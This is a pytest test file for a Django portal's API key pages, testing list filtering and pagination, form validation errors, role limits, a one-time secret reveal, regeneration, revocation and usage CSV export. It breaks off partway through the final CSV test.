"""keys/web/views.py: the portal's API key pages — partial vs full page, every form error, the role matrix,
the one-time reveal, and a list page whose query count does not grow with the number of keys."""

from __future__ import annotations

import re
from datetime import date, timedelta

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from accounts.models import Role
from audit.models import AuditAction, AuditEvent
from keys import selectors
from keys.models import ApiKey, KeyUsageDay
from tests.helpers.bulk import bulk_events, bulk_keys
from tests.helpers.caches import cache_contents
from tests.helpers.demo import ROLE_EMAILS
from tests.helpers.portal import HX, SECRET, field_error, form_data, is_full_page, secret_in

pytestmark = pytest.mark.django_db

# ---------------------------------------------------------------- list


def test_list_full_page_and_htmx_partial(demo, login, make_key):
    make_key(name="alpha")
    client = login("advanced@acme.test")
    full = client.get("/settings/api-keys/")
    assert full.status_code == 200 and is_full_page(full)
    html = full.content.decode()
    assert 'id="key-table"' in html and "alpha" in html
    assert ">+ Add API Key</a>" in html
    assert 'role="search"' in html and ">Search</label>" in html
    for label in ("Status", "Application", "Role", "Account", "Created by"):
        assert f">{label}</label>" in html
    partial = client.get("/settings/api-keys/", **HX)
    assert partial.status_code == 200 and not is_full_page(partial)
    body = partial.content.decode()
    assert body.lstrip().startswith('<div id="key-table"')
    assert re.search(r'<span id="quota-badge" [^>]*hx-swap-oob="true"', body)  # the quota follows
    assert 'id="key-table"' in body and "alpha" in body and "<form" not in body
    assert "HX-Request" in partial.headers["Vary"]


def test_history_restore_request_gets_the_full_page(demo, login):
    client = login("advanced@acme.test")
    response = client.get("/settings/api-keys/", HTTP_HX_HISTORY_RESTORE_REQUEST="true", **HX)
    assert is_full_page(response)


def test_list_columns_badges_and_links(demo, login, make_key):
    issued = make_key(name="charger sync", scopes=["api-keys:read"])
    client = login("advanced@acme.test")
    html = client.get("/settings/api-keys/").content.decode()
    for column in ("Name", "Client ID", "Application", "Role", "Account", "Scopes", "Status", "Created"):
        assert column in html
    assert "Last used" in html and "Expires" in html
    assert f'href="/settings/api-keys/{issued.key.pk}/"' in html
    assert issued.key.client_id in html
    assert "api-keys:read" in html and ">Active<" in html


def test_badges_for_revoked_expired_expiring_rotation_and_idle(demo, login, make_key):
    revoked = make_key(name="gone").key
    ApiKey.objects.filter(pk=revoked.pk).update(revoked_at=timezone.now())
    expired = make_key(name="old", expires_in_days=1).key
    ApiKey.objects.filter(pk=expired.pk).update(expires_at=timezone.now() - timedelta(days=1))
    make_key(name="soon", expires_in_days=3)
    stale = make_key(name="stale").key
    ApiKey.objects.filter(pk=stale.pk).update(created_at=timezone.now() - timedelta(days=120))
    client = login("advanced@acme.test")
    html = client.get("/settings/api-keys/").content.decode()
    for badge in ("Revoked", "Expired", "Expiring soon", "Rotation due", "Idle"):
        assert f">{badge}</span>" in html, badge


def test_quota_badge_enterprise_and_professional(demo, login, make_key, make_user):
    make_key(name="one")
    make_key(name="two")
    client = login("advanced@acme.test")
    assert "2 keys in use · no limit" in client.get("/settings/api-keys/").content.decode()
    for n in range(9):
        make_key(organization=demo.globex, name=f"g{n}")
    client = login("advanced@globex.test")
    assert "9 of 10 keys in use" in client.get("/settings/api-keys/").content.decode()


def test_a_plan_limit_is_counted_once_per_list_page(demo, login, make_key):
    """The badge ("9 of 10 keys in use") and the disabled "+ Add API Key" ask the same count."""
    for n in range(10):
        make_key(organization=demo.globex, name=f"g{n}")
    client = login("advanced@globex.test")
    with CaptureQueriesContext(connection) as queries:
        html = client.get("/settings/api-keys/").content.decode()
    assert "10 of 10 keys in use" in html and "revoke a key or upgrade the plan" in html
    in_use = '"revoked_at" IS NULL AND ("keys_apikey"."expires_at" IS NULL OR'  # ApiKeyQuerySet.in_use()
    in_use_counts = [
        sql
        for q in queries.captured_queries
        if "COUNT" in (sql := q["sql"]) and in_use in sql and "exposed" not in sql
    ]
    assert len(in_use_counts) == 1, in_use_counts


def test_empty_state_tells_a_new_admin_what_to_do(demo, login):
    html = login("advanced@acme.test").get("/settings/api-keys/").content.decode()
    assert "No API keys yet" in html and "Create your first key" in html
    html = login("support@acme.test").get("/settings/api-keys/").content.decode()
    assert "No API keys yet" in html and "Create your first key" not in html


def test_filters_search_status_and_selects(demo, login, make_key):
    alpha = make_key(name="alpha erp", application=demo.incharge, scopes=["billing:read"]).key
    beta = make_key(name="beta bi", role=Role.SUPPORT, scopes=["api-keys:read"]).key
    gamma = make_key(name="gamma", account=demo.north).key
    ApiKey.objects.filter(pk=gamma.pk).update(revoked_at=timezone.now())
    client = login("advanced@acme.test")

    def names(**params) -> set[str]:
        html = client.get("/settings/api-keys/", params, **HX).content.decode()
        return set(re.findall(r'class="key-name" href="[^"]+">([^<]+)<', html))

    assert names() == {"alpha erp", "beta bi", "gamma"}
    assert names(q="ALPHA") == {"alpha erp"}
    assert names(q=beta.client_id[:14]) == {"beta bi"}
    assert names(status="revoked") == {"gamma"}
    assert names(status="active") == {"alpha erp", "beta bi"}
    assert names(application=demo.incharge.pk) == {"alpha erp"}
    assert names(role=int(Role.SUPPORT)) == {"beta bi"}
    assert names(account=demo.north.pk) == {"gamma"}
    client.post("/settings/api-keys/new/", form_data(demo, name="delta"))
    assert names(created_by=demo.user("advanced@acme.test").pk) == {"delta"}
    assert names(status="bogus", role="x") == {"alpha erp", "beta bi", "gamma", "delta"}  # bad URL: all
    html = client.get("/settings/api-keys/", {"q": "nothing-like-this"}, **HX).content.decode()
    assert "No keys match these filters" in html
    assert alpha  # used


def test_sorting_and_pagination(demo, login, make_key):
    for n in range(30):
        make_key(name=f"key {n:02d}")
    client = login("advanced@acme.test")
    html = client.get("/settings/api-keys/", {"sort": "name"}).content.decode()
    shown = re.findall(r'class="key-name" href="[^"]+">([^<]+)<', html)
    assert shown == [f"key {n:02d}" for n in range(25)]
    assert 'aria-sort="ascending"' in html
    assert "Showing 1–25 of 30 keys" in html
    assert 'href="?sort=-name"' in html  # the active column flips
    page2 = client.get("/settings/api-keys/", {"sort": "-name", "page": "2"}, **HX).content.decode()
    shown = re.findall(r'class="key-name" href="[^"]+">([^<]+)<', page2)
    assert shown == [f"key {n:02d}" for n in range(4, -1, -1)]
    assert 'aria-current="page"' in page2 and "Showing 26–30 of 30 keys" in page2
    # Links keep the filters and work without JavaScript (href) and with htmx (hx-get).
    assert 'href="?sort=-name&amp;page=1"' in page2
    assert 'hx-get="/settings/api-keys/?sort=-name&amp;page=1"' in page2
    # A bad page number or sort falls back instead of failing.
    assert client.get("/settings/api-keys/", {"page": "999", "sort": "evil"}).status_code == 200


def test_list_query_count_does_not_grow_with_keys(demo, login, make_key):
    client = login("advanced@acme.test")
    make_key(name="first")

    def count(**params) -> int:
        with CaptureQueriesContext(connection) as queries:
            assert client.get("/settings/api-keys/", params).status_code == 200
        return len(queries)

    few = {"first": count(), "second": count(page=2)}
    bulk_keys(
        demo.acme,
        1000,
        applications=[demo.portal, demo.incharge, demo.infodeck],
        accounts=[demo.acme_root, demo.north, demo.south],
        created_by=demo.user("advanced@acme.test"),
    )
    many = {
        "first": count(),
        "second": count(page=2),
        "deep": count(page=37),
        "sorted": count(sort="-last_used"),
    }
    print(f"\nlist page queries: {few} with 1 key, {many} with 1,001 keys")
    assert many["first"] == few["first"] and many["sorted"] == many["first"]
    # Every page, the first too, reads its keys from the sort's index (skipping those of the rows
    # before it), then its rows: the same queries at any depth.
    assert many["second"] == many["deep"] == many["first"]
    assert many["first"] <= 12
    # The htmx partial too, with a filter and a sort.
    with CaptureQueriesContext(connection) as queries:
        client.get("/settings/api-keys/", {"q": "bulk", "sort": "-last_used", "page": "7"}, **HX)
    assert len(queries) <= many["deep"]


def test_a_list_longer_than_the_count_cap_says_more_than(demo, login, make_key, monkeypatch):
    """Counting stops at the cap (COUNT_CAP, 10,000, made 40 here): the list says "more than", the
    quota badge "40+", and page numbers reach the next page only; any page still opens, and one
    beyond the end shows the first."""
    monkeypatch.setattr(selectors, "COUNT_CAP", 40)
    bulk_keys(demo.acme, 60, applications=[demo.portal], accounts=[demo.acme_root])
    client = login("advanced@acme.test")
    html = client.get("/settings/api-keys/").content.decode()
    assert "Showing 1–25 of more than 40 keys" in html
    assert "40+ keys in use · no limit" in html
    assert 'id="page-2"' in html and 'id="page-3"' not in html and "page-gap" in html
    third = client.get("/settings/api-keys/", {"page": 3}, **HX).content.decode()
    assert "Showing 51–60 of more than 40 keys" in third and 'id="page-next"' not in third
    names = re.findall(r'class="key-name" href="[^"]+">([^<]+)<', third)
    assert names == [f"bulk {n:04d}" for n in range(9, -1, -1)]  # the oldest ten, newest first
    beyond = client.get("/settings/api-keys/", {"page": 99}, **HX).content.decode()
    assert "Showing 1–25 of more than 40 keys" in beyond


# ---------------------------------------------------------------- the create form


def test_create_form_full_page_and_dialog(demo, login):
    client = login("advanced@acme.test")
    full = client.get("/settings/api-keys/new/")
    assert full.status_code == 200 and is_full_page(full)
    html = full.content.decode()
    required = '</label> <span class="required-mark" aria-hidden="true">*</span>'
    for label in ("Application", "Role", "Account", "Expiry"):
        assert f">{label}{required}" in html
    assert ">Name</label>" in html
    assert ">Create</button>" in html
    assert "no-store" in full.headers["Cache-Control"]
    dialog = client.get("/settings/api-keys/new/", **HX)
    assert not is_full_page(dialog)
    body = dialog.content.decode()
    # A native <dialog> (portal.js opens it with showModal(), which makes it modal), named by its heading.
    assert re.search(r'<dialog [^>]*aria-labelledby="key-form-title"', body)
    assert body.count("<dialog") == 1 and '<h2 id="key-form-title">Add API Key</h2>' in body
    assert 'hx-post="/settings/api-keys/new/"' in body


def test_create_form_defaults(demo, login, make_key):
    make_key(name="API Key Portal key 1")
    html = login("advanced@acme.test").get("/settings/api-keys/new/").content.decode()
    # First application, own role, highest account, a free readable name.
    assert re.search(rf'<option value="{demo.portal.pk}" selected>API Key Portal</option>', html)
    assert '<option value="50" selected>Advanced Admin</option>' in html
    assert re.search(rf'<option value="{demo.acme_root.pk}" selected>Acme Corp</option>', html)
    assert 'value="API Key Portal key 2"' in html
    # One checkbox per scope, labelled with the catalogue's description and the scope string, in a
    # fieldset per resource, read and write side by side.
    assert re.search(
        r'<label for="scope-api-keys-read"><span class="scope-description">List and read API keys</span> '
        r'<code class="scope-name">api-keys:read</code></label>',
        html,
    )
    assert '<legend>API keys <code class="scope-resource">api-keys</code></legend>' in html
    assert 'data-resource="api-keys" data-action="write"' in html
    for days in ("never", "30", "90", "365", "custom"):
        assert f'<option value="{days}"' in html


def test_the_scope_picker_reads_the_demo_catalogue_in_words(demo, login):
    client = login("advanced@acme.test")
    scopes = client.get(f"/settings/api-keys/new/scopes/?application={demo.infodeck.pk}", **HX)
    html = scopes.content.decode()
    assert '<span class="scope-description">View work orders</span>' in html
    assert '<span class="scope-description">Create/update work orders</span>' in html
    assert '<legend>IoT <code class="scope-resource">iot</code></legend>' in html
    assert "Read iot" not in html
    # Required fields are marked, and the scopes' status line is there to say what is chosen.
    html = client.get("/settings/api-keys/new/").content.decode()
    assert '<label for="id_application">Application</label> <span class="required-mark"' in html
    assert '<label for="id_name">Name</label>' in html  # optional: a name is suggested
    assert 'id="scopes-status" role="status"' in html


def test_create_a_key_like_this_one_fills_the_form_from_the_key(demo, login, make_key):
    model = make_key(
        name="SAP ERP Integration",
        application=demo.infodeck,
        account=demo.north,
        role=Role.ADMIN_API,
        scopes=["work-orders:write", "assets:read"],
        allowed_ips=["192.0.2.0/24", "2001:db8::/32"],
    ).key
    client = login("advanced@acme.test")
    detail = client.get(f"/settings/api-keys/{model.pk}/").content.decode()
    assert f'hx-get="/settings/api-keys/new/?like={model.pk}"' in detail
    response = client.get("/settings/api-keys/new/", {"like": str(model.pk)}, **HX)
    html = response.content.decode()
    assert re.search(rf'<option value="{demo.infodeck.pk}" selected>Infodeck</option>', html)
    assert '<option value="40" selected>Admin + API</option>' in html
    assert re.search(rf'<option value="{demo.north.pk}" selected>[^<]*Acme North</option>', html)
    assert 'value="SAP ERP Integration (2)"' in html
    checked = re.findall(
        r'value="([a-z-]+:[a-z]+)" id="[^"]+" data-resource="[^"]+" data-action="[a-z]+" checked', html
    )
    assert sorted(checked) == ["assets:read", "work-orders:read", "work-orders:write"]  # write shows its read
    assert "192.0.2.0/24\n2001:db8::/32</textarea>" in html
    assert 'id="like-note"' in html and "Filled in from" in html
    # Created through the usual service, narrower than its model if wished.
    data = form_data(
        demo,
        application=demo.infodeck.pk,
        account=demo.north.pk,
        role=int(Role.ADMIN_API),
        name="SAP ERP Integration (2)",
        scopes=["assets:read"],
        allowed_ips="192.0.2.0/24\n2001:db8::/32",
    )
    assert secret_in(client.post("/settings/api-keys/new/", data, **HX))
    copy = ApiKey.objects.get(name="SAP ERP Integration (2)")
    assert copy.scopes == ["assets:read"] and copy.allowed_ips == model.allowed_ips
    assert copy.created_by == demo.user("advanced@acme.test")
    # Another tenant's key is not found, nor is a malformed id; Support has no such button.
    assert login("advanced@globex.test").get(f"/settings/api-keys/new/?like={model.pk}").status_code == 404
    assert client.get("/settings/api-keys/new/?like=nope").status_code == 404
    support = login("support@acme.test").get(f"/settings/api-keys/{model.pk}/").content.decode()
    assert "create-like-button" not in support


def test_admin_api_is_offered_only_roles_up_to_its_own(demo, login):
    html = login("adminapi@acme.test").get("/settings/api-keys/new/").content.decode()
    assert "Advanced Admin" not in html
    assert '<option value="40" selected>Admin + API</option>' in html
    response = login("adminapi@acme.test").post("/settings/api-keys/new/", form_data(demo, role=50))
    assert "Select a valid choice" in field_error(response, "role")
    assert not ApiKey.objects.exists()


def test_scope_catalogue_switches_with_the_application(demo, login):
    client = login("advanced@acme.test")
    response = client.get(
        "/settings/api-keys/new/scopes/",
        {"application": demo.infodeck.pk, "role": 50, "scopes": ["work-orders:read"]},
        **HX,
    )
    html = response.content.decode()
    assert not is_full_page(response)
    # The scope fields, and the suggested name for the new application swapped in out of band.
    assert html.lstrip().startswith('<div id="name-field" hx-swap-oob="true">')
    assert '<div id="scope-fields"' in html
    assert "work-orders:write" in html and "charge-points:read" not in html
    assert re.search(
        r'value="work-orders:read" id="[^"]+" data-resource="work-orders" data-action="read" checked', html
    )
    # A Support key gets read scopes only: the write ones are shown disabled.
    html = client.get("/settings/api-keys/new/scopes/", {"application": demo.infodeck.pk, "role": 20}).content
    assert re.search(
        rb'value="assets:write" id="[^"]+" data-resource="assets" data-action="write" disabled', html
    )


def test_untouched_name_suggestion_follows_the_application(demo, login):
    client = login("advanced@acme.test")
    html = client.get(
        "/settings/api-keys/new/scopes/",
        {
            "application": demo.incharge.pk,
            "name": "API Key Portal key 1",
            "suggested_name": "API Key Portal key 1",
        },
    ).content.decode()
    assert 'hx-swap-oob="true"' in html and 'value="InCharge key 1"' in html
    html = client.get(
        "/settings/api-keys/new/scopes/",
        {"application": demo.incharge.pk, "name": "my own", "suggested_name": "API Key Portal key 1"},
    ).content.decode()
    assert "hx-swap-oob" not in html


def test_without_javascript_show_scopes_redraws_the_form(demo, login):
    client = login("advanced@acme.test")
    response = client.post(
        "/settings/api-keys/new/", form_data(demo, application=demo.infodeck.pk, action="refresh", scopes=[])
    )
    html = response.content.decode()
    assert response.status_code == 200 and is_full_page(response)
    assert "work-orders:read" in html and "field-error" not in html
    assert not ApiKey.objects.exists()


@pytest.mark.parametrize(
    ("overrides", "field", "message"),
    [
        ({"name": "x" * 129}, "name", "the limit is 128"),
        ({"name": "tab\there"}, "name", "control characters"),
        ({"scopes": []}, "scopes", "Choose at least one scope."),
        ({"scopes": ["nope:read"]}, "scopes", "Select a valid choice"),
        ({"role": 20, "scopes": ["billing:write"]}, "scopes", "may not carry billing:write"),
        ({"expiry": "custom", "expiry_days": "0"}, "expiry_days", "between 1 and 3650 days"),
        ({"expiry": "custom", "expiry_days": "3651"}, "expiry_days", "between 1 and 3650 days"),
        ({"expiry": "custom", "expiry_days": ""}, "expiry_days", "Enter the number of days"),
        ({"expiry": "custom", "expiry_days": "soon"}, "expiry_days", "Enter a whole number"),
        ({"expiry": "forever"}, "expiry", "Select a valid choice"),
        ({"allowed_ips": "192.0.2.0/24\nintranet"}, "allowed_ips", "“intranet” is not an IP address"),
        ({"allowed_ips": "192.0.2.1/24"}, "allowed_ips", "did you mean 192.0.2.0/24?"),
        (
            {"allowed_ips": "\n".join(f"10.0.{i}.0/24" for i in range(33))},
            "allowed_ips",
            "33 allowed networks given; the limit is 32",
        ),
    ],
)
@pytest.mark.parametrize("htmx", [False, True])
def test_form_errors_are_shown_next_to_their_field(demo, login, overrides, field, message, htmx):
    client = login("advanced@acme.test")
    response = client.post("/settings/api-keys/new/", form_data(demo, **overrides), **(HX if htmx else {}))
    assert response.status_code == 200
    assert is_full_page(response) is not htmx
    if field == "scopes":
        assert message in re.search(r'id="scopes-error">([^<]*)<', response.content.decode()).group(1)
    else:
        assert message in field_error(response, field)
        assert f'aria-describedby="id_{field}_error' in response.content.decode()
        assert 'aria-invalid="true"' in response.content.decode()
    assert not SECRET.search(response.content.decode())
    assert not ApiKey.objects.exists()


def test_name_taken_is_an_error_next_to_the_name(demo, login, make_key):
    make_key(name="ERP Production")
    response = login("advanced@acme.test").post("/settings/api-keys/new/", form_data(demo), **HX)
    assert "already exists" in field_error(response, "name")
    assert ApiKey.objects.count() == 1


def test_at_the_key_limit_add_is_disabled_with_the_reason_beside_it(demo, login, make_key):
    for n in range(9):
        make_key(organization=demo.globex, name=f"g{n}")
    client = login("advanced@globex.test")
    html = client.get("/settings/api-keys/").content.decode()
    assert 'href="/settings/api-keys/new/"' in html and "key-limit-reason" not in html
    make_key(organization=demo.globex, name="g9")
    for response in (client.get("/settings/api-keys/"), client.get("/settings/api-keys/", **HX)):
        html = response.content.decode()
        add = re.search(r'<button[^>]*id="add-key-button"[^>]*>', html).group(0)
        assert 'aria-disabled="true"' in add and 'aria-describedby="key-limit-reason"' in add
        assert "hx-get" not in add
        assert re.search(
            r'id="key-limit-reason">10 of 10 keys in use — revoke a key or upgrade the plan.</p>', html
        )
    # The same rule as create_key's: a revoked key frees a slot, a disabled one does not.
    ApiKey.objects.filter(name="g0").update(revoked_at=timezone.now())
    assert "key-limit-reason" not in client.get("/settings/api-keys/").content.decode()
    # Support cannot add keys at all: no button, no reason (Acme with a limit of 0 here).
    demo.acme.key_limit_override = 0
    demo.acme.save()
    html = login("support@acme.test").get("/settings/api-keys/").content.decode()
    assert "add-key-button" not in html and "key-limit-reason" not in html
    assert "key-limit-reason" in login("advanced@acme.test").get("/settings/api-keys/").content.decode()


def test_key_limit_reached_is_a_form_error(demo, login, make_key):
    for n in range(10):
        make_key(organization=demo.globex, name=f"g{n}")
    client = login("advanced@globex.test")
    data = form_data(
        demo, application=demo.globex_portal.pk, account=demo.globex_root.pk, scopes=["api-keys:read"]
    )
    response = client.post("/settings/api-keys/new/", data, **HX)
    html = response.content.decode()
    assert 'class="alert alert-error" role="alert"' in html
    assert "10 of 10 keys in use — revoke a key or upgrade the plan." in html
    assert ApiKey.objects.filter(organization=demo.globex).count() == 10
    # The same with a superuser's lower override.
    demo.acme.key_limit_override = 0
    demo.acme.save()
    response = login("advanced@acme.test").post("/settings/api-keys/new/", form_data(demo))
    assert "0 of 0 keys in use" in response.content.decode()


def test_blank_name_gets_the_suggestion(demo, login):
    response = login("advanced@acme.test").post("/settings/api-keys/new/", form_data(demo, name=""))
    assert response.status_code == 200
    assert ApiKey.objects.get().name == "InCharge key 1"


# ---------------------------------------------------------------- the one-time reveal


@pytest.mark.parametrize("htmx", [False, True])
def test_create_reveals_the_secret_once(demo, login, api, htmx):
    client = login("advanced@acme.test")
    response = client.post(
        "/settings/api-keys/new/", form_data(demo, expiry="custom", expiry_days="45"), **(HX if htmx else {})
    )
    assert response.status_code == 200
    assert "no-store" in response.headers["Cache-Control"]
    assert is_full_page(response) is not htmx
    html = response.content.decode()
    secret = secret_in(response)
    key = ApiKey.objects.get()
    assert key.client_id in html and key.name == "ERP production"
    assert key.scopes == ["charge-points:read", "billing:write"]
    assert key.expires_at.date() == (timezone.now() + timedelta(days=45)).date()
    assert key.created_by == demo.user("advanced@acme.test")
    # htmx: a native <dialog>; a plain request: the same content as a section of the page.
    labelled = r'<(dialog|section) [^>]*aria-labelledby="reveal-title" aria-describedby="reveal-warning"'
    assert re.search(labelled, html).group(1) == ("dialog" if htmx else "section")
    assert ("<dialog" in html) is htmx
    assert "will not be shown again" in html and ">Done</button>" in html
    # Client ID, Client Secret, and the ready-to-run call with the secret in it.
    assert html.count("data-copy-target=") == 3
    assert "<code>https://incharge.acme.test/api</code>" in html
    assert re.search(
        rf'<pre class="code" id="reveal-example" data-secret>curl -H "Authorization: Bearer {secret}" '
        r"https://incharge.acme.test/api/charge-points</pre>",
        html,
    )
    assert html.count(secret) == 2  # the secret itself and the call
    assert 'hx-history="false"' in html  # htmx never snapshots the page holding the secret
    event = AuditEvent.objects.get(action=AuditAction.KEY_CREATED)
    assert event.actor_label == "advanced@acme.test" and event.ip == "127.0.0.1"
    assert secret not in str(event.details)
    # The secret works (InCharge keys have no portal scope, but /api/v1/key answers any valid key).
    client.logout()
    assert api("get", "/api/v1/key", secret).status_code == 200


def test_the_secret_appears_in_no_later_response(demo, login, settings):
    client = login("advanced@acme.test")
    created = client.post("/settings/api-keys/new/", form_data(demo))
    secret = secret_in(created)
    key = ApiKey.objects.get()
    later = [
        client.get("/settings/api-keys/"),  # Done, or a reload of the list
        client.get("/settings/api-keys/", **HX),  # Done refreshing the table
        client.get(f"/settings/api-keys/{key.pk}/"),
        client.get(f"/settings/api-keys/{key.pk}/", **HX),
        client.get(f"/settings/api-keys/{key.pk}/regenerate/"),
        client.get(f"/settings/api-keys/{key.pk}/revoke/", **HX),
        client.get("/settings/api-keys/new/"),
        client.get("/settings/audit-log/"),
    ]
    for response in later:
        assert response.status_code == 200
        assert secret not in response.content.decode()
        assert not SECRET.search(response.content.decode())
    # Nowhere else either: not the session, not a message, not the cache, not a cookie.
    session = client.session
    assert all(secret not in str(value) for value in session.values())
    assert all(secret not in morsel.value for morsel in client.cookies.values())
    assert secret not in cache_contents()
    assert secret not in key.secret_digest


def test_regenerate_dialog_and_reveal(demo, login, make_key, api):
    old = make_key(name="rotating")
    client = login("advanced@acme.test")
    dialog = client.get(f"/settings/api-keys/{old.key.pk}/regenerate/", **HX)
    html = dialog.content.decode()
    assert not is_full_page(dialog)
    assert re.search(
        r'<dialog [^>]*aria-labelledby="regenerate-title" aria-describedby="regenerate-warning"', html
    )
    assert "Integrations using the current secret will stop working" in html
    for label in ("Stop now", "After 1 hour", "After 24 hours", "After 7 days"):
        assert label in html
    assert re.search(r'value="0"[^>]* checked', html)
    assert ">Regenerate</button>" in html
    assert is_full_page(client.get(f"/settings/api-keys/{old.key.pk}/regenerate/"))

    response = client.post(f"/settings/api-keys/{old.key.pk}/regenerate/", {"grace_period": "0"}, **HX)
    assert "no-store" in response.headers["Cache-Control"]
    new_secret = secret_in(response)
    assert new_secret != old.secret and "has stopped working" in response.content.decode()
    assert "<code>http://testserver/api/v1</code>" in response.content.decode()  # a portal key
    client.logout()
    assert api("get", "/api/v1/key", old.secret).status_code == 401
    assert api("get", "/api/v1/key", new_secret).status_code == 200


def test_regenerate_with_grace_keeps_the_old_secret(demo, login, make_key, api):
    old = make_key(name="rolling")
    client = login("advanced@acme.test")
    response = client.post(f"/settings/api-keys/{old.key.pk}/regenerate/", {"grace_period": "3600"})
    assert is_full_page(response)
    new_secret = secret_in(response)
    assert "keeps working until" in response.content.decode()
    key = ApiKey.objects.get()
    assert timedelta(minutes=59) < key.previous_expires_at - timezone.now() <= timedelta(hours=1)
    detail = client.get(f"/settings/api-keys/{key.pk}/").content.decode()
    assert "<strong>Previous secret:</strong> Still works until" in detail
    client.logout()
    assert api("get", "/api/v1/key", old.secret).status_code == 200
    assert api("get", "/api/v1/key", new_secret).status_code == 200


def test_regenerate_bad_grace_and_revoked_key_are_errors(demo, login, make_key):
    issued = make_key(name="r")
    client = login("advanced@acme.test")
    response = client.post(f"/settings/api-keys/{issued.key.pk}/regenerate/", {"grace_period": "99"}, **HX)
    assert 'id="grace-error"' in response.content.decode()
    assert not SECRET.search(response.content.decode())
    ApiKey.objects.filter(pk=issued.key.pk).update(revoked_at=timezone.now())
    response = client.post(f"/settings/api-keys/{issued.key.pk}/regenerate/", {"grace_period": "0"}, **HX)
    assert "it cannot be regenerated" in response.content.decode()
    assert not SECRET.search(response.content.decode())


def test_revoke_confirmation_and_result(demo, login, make_key, api):
    issued = make_key(name="doomed")
    client = login("advanced@acme.test")
    dialog = client.get(f"/settings/api-keys/{issued.key.pk}/revoke/", **HX).content.decode()
    assert re.search(r'<dialog [^>]*aria-labelledby="revoke-title" aria-describedby="revoke-warning"', dialog)
    assert "cannot be undone and takes effect at once" in dialog
    assert ">Revoke</button>" in dialog
    response = client.post(f"/settings/api-keys/{issued.key.pk}/revoke/", **HX)
    assert response.status_code == 200 and response["HX-Redirect"] == f"/settings/api-keys/{issued.key.pk}/"
    detail = client.get(f"/settings/api-keys/{issued.key.pk}/").content.decode()
    assert "Revoked</strong> by advanced@acme.test on" in detail
    assert "is revoked" in detail  # the message
    assert ">Revoke</button>" not in detail and ">Regenerate</button>" not in detail
    client.logout()
    assert api("get", "/api/v1/key", issued.secret).status_code == 401


def test_revoke_without_javascript_redirects_to_the_detail(demo, login, make_key):
    issued = make_key(name="doomed")
    client = login("advanced@acme.test")
    assert is_full_page(client.get(f"/settings/api-keys/{issued.key.pk}/revoke/"))
    response = client.post(f"/settings/api-keys/{issued.key.pk}/revoke/")
    assert response.status_code == 302 and response.url == f"/settings/api-keys/{issued.key.pk}/"


# ---------------------------------------------------------------- detail


def test_detail_full_and_partial_with_usage(demo, login, make_key):
    issued = make_key(name="busy", scopes=["api-keys:read", "api-keys:write"])
    key = issued.key
    today = timezone.now().date()
    KeyUsageDay.objects.create(
        key=key, day=today, total=100, success=90, client_errors=4, denied=2, rate_limited=3, server_errors=1
    )
    KeyUsageDay.objects.create(key=key, day=today - timedelta(days=3), total=20, success=20)
    KeyUsageDay.objects.create(key=key, day=date(2000, 1, 1), total=5, success=5)  # counted, not charted
    seen = timezone.now() - timedelta(minutes=5)
    ApiKey.objects.filter(pk=key.pk).update(
        last_used_at=seen,
        recent_ips=[{"ip": "203.0.113.7", "seen": seen.isoformat()}, {"ip": "198.51.100.2"}],
    )
    client = login("support@acme.test")
    response = client.get(f"/settings/api-keys/{key.pk}/")
    assert is_full_page(response)
    html = response.content.decode()
    assert key.client_id in html and "api-keys:write" in html
    assert "<dt>Total calls</dt><dd>125</dd>" in html
    assert "<dt>Success rate</dt><dd>92.0%</dd>" in html
    assert "<dt>Errors</dt><dd>7</dd>" in html
    assert "<dt>Rate-limited calls</dt><dd>3</dd>" in html
    assert "203.0.113.7" in html and "198.51.100.2" in html
    assert '<svg class="usage-chart"' in html and 'role="img"' in html
    assert '<title id="usage-chart-title">' in html and '<desc id="usage-chart-desc">' in html
    assert "120 calls in the last 30 days" in html
    assert "Key created" in html  # its audit events
    # Support: no actions.
    assert ">Regenerate</button>" not in html and ">Revoke</button>" not in html
    partial = client.get(f"/settings/api-keys/{key.pk}/", **HX)
    assert not is_full_page(partial) and 'id="key-detail-body"' in partial.content.decode()


def test_detail_query_count_does_not_grow_with_events_or_usage(demo, login, make_key):
    quiet, busy = make_key(name="quiet").key, make_key(name="busy").key
    bulk_events(demo.acme, 300, key=busy)
    today = timezone.now().date()
    KeyUsageDay.objects.bulk_create(
        KeyUsageDay(key=busy, day=today - timedelta(days=n), total=10, success=10) for n in range(365)
    )
    client = login("advanced@acme.test")

    def count(key) -> int:
        with CaptureQueriesContext(connection) as queries:
            assert client.get(f"/settings/api-keys/{key.pk}/").status_code == 200
        return len(queries)

    assert count(quiet) == count(busy)


def test_detail_of_someone_elses_key_is_not_found(demo, login, make_key):
    globex_key = make_key(organization=demo.globex, name="theirs").key
    advanced_key = make_key(name="above", role=Role.ADVANCED_ADMIN).key
    client = login("advanced@acme.test")
    assert client.get(f"/settings/api-keys/{globex_key.pk}/").status_code == 404
    assert client.get("/settings/api-keys/not-a-uuid/").status_code == 404
    client = login("adminapi@acme.test")
    assert client.get(f"/settings/api-keys/{advanced_key.pk}/").status_code == 404
    assert client.post(f"/settings/api-keys/{advanced_key.pk}/revoke/").status_code == 404
    assert "above" not in client.get("/settings/api-keys/").content.decode()
    assert ApiKey.objects.get(pk=advanced_key.pk).revoked_at is None


# ---------------------------------------------------------------- usage as CSV

CSV_ROW = re.compile(r"\d{4}-\d{2}-\d{2},\d+,\d+,\d+")


def _csv_lines(response) -> list[str]:
    return response.content.decode("utf-8").splitlines()


def test_usage_csv_has_every_day_and_a_safe_file_name(demo, login, make_key):
    key = make_key(name="ERP production").key
    today = timezone.now().date()
    KeyUsageDay.objects.create(
        key=key, day=today, total=100, success=90, client_errors=4, denied=2, rate_limited=3, server_errors=1
    )
    KeyUsageDay.objects.create(key=key, day=today - timedelta(days=6), total=8, success=8)
    KeyUsageDay.objects.create(key=key, day=today - timedelta(days=7), total=50, success=50)  # 8 days ago
    client = login("support@acme.test")  # Support reads usage too
    detail = client.get(f"/settings/api-keys/{key.pk}/").content.decode()
    assert f'href="/settings/api-keys/{key.pk}/usage.csv?days=30"' in detail and ">Download CSV</a>" in detail
    for days in (7, 90):
        assert f'href="/settings/api-keys/{key.pk}/usage.csv?days={days}"' in detail

    response = client.get(f"/settings/api-keys/{key.pk}/usage.csv?days=7")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    first = today - timedelta(days=6)
    assert response["Content-Disposition"] == (
        f'attachment; filename="erp-production-usage-{first:%Y-%m-%d}-{today:%Y-%m-%d}.csv"'
    )
    lines = _csv_lines(response)
    assert lines[0] == "date,calls,errors,rate_limited"
    assert lines[1:] == [
        f"{first:%Y-%m-%d},8,0,0",
